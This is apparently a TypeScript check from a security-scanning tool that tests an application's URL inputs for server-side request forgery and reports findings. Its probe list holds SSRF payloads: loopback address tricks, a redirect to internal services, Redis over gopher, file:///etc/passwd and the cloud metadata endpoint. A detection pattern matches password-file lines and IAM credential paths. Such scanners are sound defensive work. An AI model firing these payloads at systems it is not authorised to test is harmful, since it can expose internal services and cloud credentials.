import { randomBytes } from 'node:crypto';
import { setTimeout } from 'node:timers/promises';
import type { CheckContext, Identity } from '../../security-check.ts';
import { defineCheck } from '../../security-check.ts';
import type { RequestTemplate, TargetProfile } from '../../target-profile.ts';
import { isAccepted, isRefused, noted, OobListener, profileNeeds, sendTemplate, Verdicts } from '../../toolkit/index.ts';

const MAX_INPUTS = 3;
/** A target that fetches may take its own timeout (often a few seconds) before it answers. */
const PROBE_TIMEOUT_MS = 8_000;
/** Fetches a target makes after answering (queued deliveries) get this long to show up. */
const LATE_ARRIVAL_MS = 1_000;
/** What internal services answer: /etc/passwd, Redis, cloud metadata. */
const INTERNAL_CONTENT = /root:[^:\n]*:0:0:|-ERR |\+PONG|redis_version|ami-id|instance-id|iam\/security-credentials/;

interface SsrfProbe {
  readonly name: string;
  readonly url: string;
  /** Points at the listener: an arrival is attributed to it. */
  readonly watched: boolean;
  /** Leaves loopback: sent only to a target that has refused everything on loopback so far. */
  readonly offLoopback?: boolean;
}

export const ssrfCheck = defineCheck({
  id: 'SEC-SSRF-01',
  title: 'Server-side request forgery through URL inputs',
  owasp: 'API7',
  cwe: [918],
  cvss: { vector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:N/A:N', score: 8.6 },
  attackClass: 'ssrf',
  provenBy: ['ssrf-open'],
  description:
    "Starts a listener on 127.0.0.1 (and ::1) and submits to each URL input, as userA: the listener over http and https, by the names localhost, 2130706433, [::1] and [::ffff:127.0.0.1], a listener URL that redirects to an internal service, the Redis port from profile.internal over http and gopher, file:///etc/passwd, and last the cloud metadata address 169.254.169.254 (only while everything before was refused, so a target shown to fetch is not sent off loopback). Passes when each is refused (4xx) and nothing connects to the listener; fails when something connects, an answer carries the listener's canary or internal content, or a URL is accepted.",
  applies: (p) => profileNeeds(p, { inputs: 'urlInputs' }, () => 'the profile has no URL inputs (profile.urlInputs)'),
  run,
});

async function run(ctx: CheckContext, { inputs }: { readonly inputs: readonly RequestTemplate[] }) {
  const obs = new Verdicts();
  const userA = await ctx.login('userA');
  await using listener = await OobListener.start();
  for (const input of inputs.slice(0, MAX_INPUTS)) {
    if (ctx.signal.aborted) break;
    await attack(ctx, obs, input, listener, userA);
  }
  return obs.outcome(`every URL was refused and nothing reached the listener on 127.0.0.1:${listener.port}`);
}

function probesFor(profile: TargetProfile, l: OobListener): SsrfProbe[] {
  const tag = (): string => `/ssrf/${randomBytes(4).toString('hex')}`;
  const redis = redisAddress(profile);
  const internalHttp = profile.internal?.find((i) => /^https?:\/\//.test(i.url))?.url;
  const redirectTarget = internalHttp ?? (redis ? `http://${redis}/` : undefined);
  return [
    { name: 'loopback listener', url: `http://127.0.0.1:${l.port}${tag()}`, watched: true },
    { name: 'loopback listener over https', url: `https://127.0.0.1:${l.port}${tag()}`, watched: true },
    { name: 'localhost', url: `https://localhost:${l.port}${tag()}`, watched: true },
    { name: 'decimal IPv4', url: `https://2130706433:${l.port}${tag()}`, watched: true },
    { name: 'IPv6 loopback', url: `https://[::1]:${l.port6 ?? l.port}${tag()}`, watched: l.port6 !== undefined },
    { name: 'IPv4-mapped IPv6', url: `https://[::ffff:127.0.0.1]:${l.port}${tag()}`, watched: true },
    ...(redirectTarget ? [{ name: `redirect to ${redirectTarget}`, url: l.redirectTo(redirectTarget), watched: true }] : []),
    ...(redis ? [{ name: 'Redis over http', url: `http://${redis}/`, watched: false }] : []),
    ...(redis ? [{ name: 'Redis over gopher', url: `gopher://${redis}/_PING`, watched: false }] : []),
    { name: 'file', url: 'file:///etc/passwd', watched: false },
    { name: 'cloud metadata', url: 'http://169.254.169.254/latest/meta-data/', watched: false, offLoopback: true },
  ];
}

/** host:port of the first Redis in profile.internal. */
function redisAddress(profile: TargetProfile): string | undefined {
  const url = profile.internal?.find((i) => i.url.startsWith('redis://'))?.url;
  if (!url) return undefined;
  const u = new URL(url);
  return `${u.hostname}:${u.port || 6379}`;
}

async function attack(ctx: CheckContext, obs: Verdicts, input: RequestTemplate, l: OobListener, who: Identity): Promise<void> {
  const where = `${input.method} ${input.path}`;
  for (const probe of probesFor(ctx.profile, l)) {
    if (ctx.signal.aborted) return;
    if (probe.offLoopback && obs.hasFindings) continue;
    const seen = l.arrivals.length;
    const res = await sendTemplate(ctx, input, { values: { url: probe.url }, token: who.token, timeoutMs: PROBE_TIMEOUT_MS });
    const arrived = l.arrivals.slice(seen);
    const what = `${where} with ${probe.name} (${probe.url})`;
    const content = INTERNAL_CONTENT.exec(res.text)?.[0];
    if (arrived.length > 0) {
      const from = [...new Set(arrived.map((a) => `${a.remote} on ${a.listener}`))].join(', ');
      const requests = arrived.flatMap((a) => (a.request ? [`${a.request.method} ${a.request.url}`] : []));
      obs.finding(
        `${what}: the target reached the listener (${from})`,
        noted(res.evidence, `fetched: the listener saw ${from}${requests.length ? `, ${requests.join(', ')}` : ' (not HTTP)'}`),
      );
    } else if (res.text.includes(l.canary)) obs.finding(`${what}: the answer carries the listener's canary`, noted(res.evidence, 'the fetched body came back'));
    else if (content) obs.finding(`${what}: the answer carries internal content ("${content}")`, noted(res.evidence, 'internal content in the answer'));
    else if (isAccepted(res.status)) obs.finding(`${what}: accepted (${res.status}) instead of refused`, noted(res.evidence, 'URL accepted'));
    else if (isRefused(res.status, 'route')) obs.saw(noted(res.evidence, `refused${probe.watched ? ', nothing arrived' : ''}`));
    else obs.doubt(`${what} answered ${res.status || 'nothing'}`, res.evidence);
  }
  const seen = l.arrivals.length;
  await setTimeout(LATE_ARRIVAL_MS);
  const late = l.arrivals.slice(seen);
  if (late.length > 0)
    obs.finding(`${where}: ${late.length} connection(s) reached the listener after the answers (a deferred fetch)`, {
      method: 'CONNECT',
      url: `http://127.0.0.1:${l.port}`,
      status: 0,
      note: late.map((a) => a.remote).join(', '),
    });
}
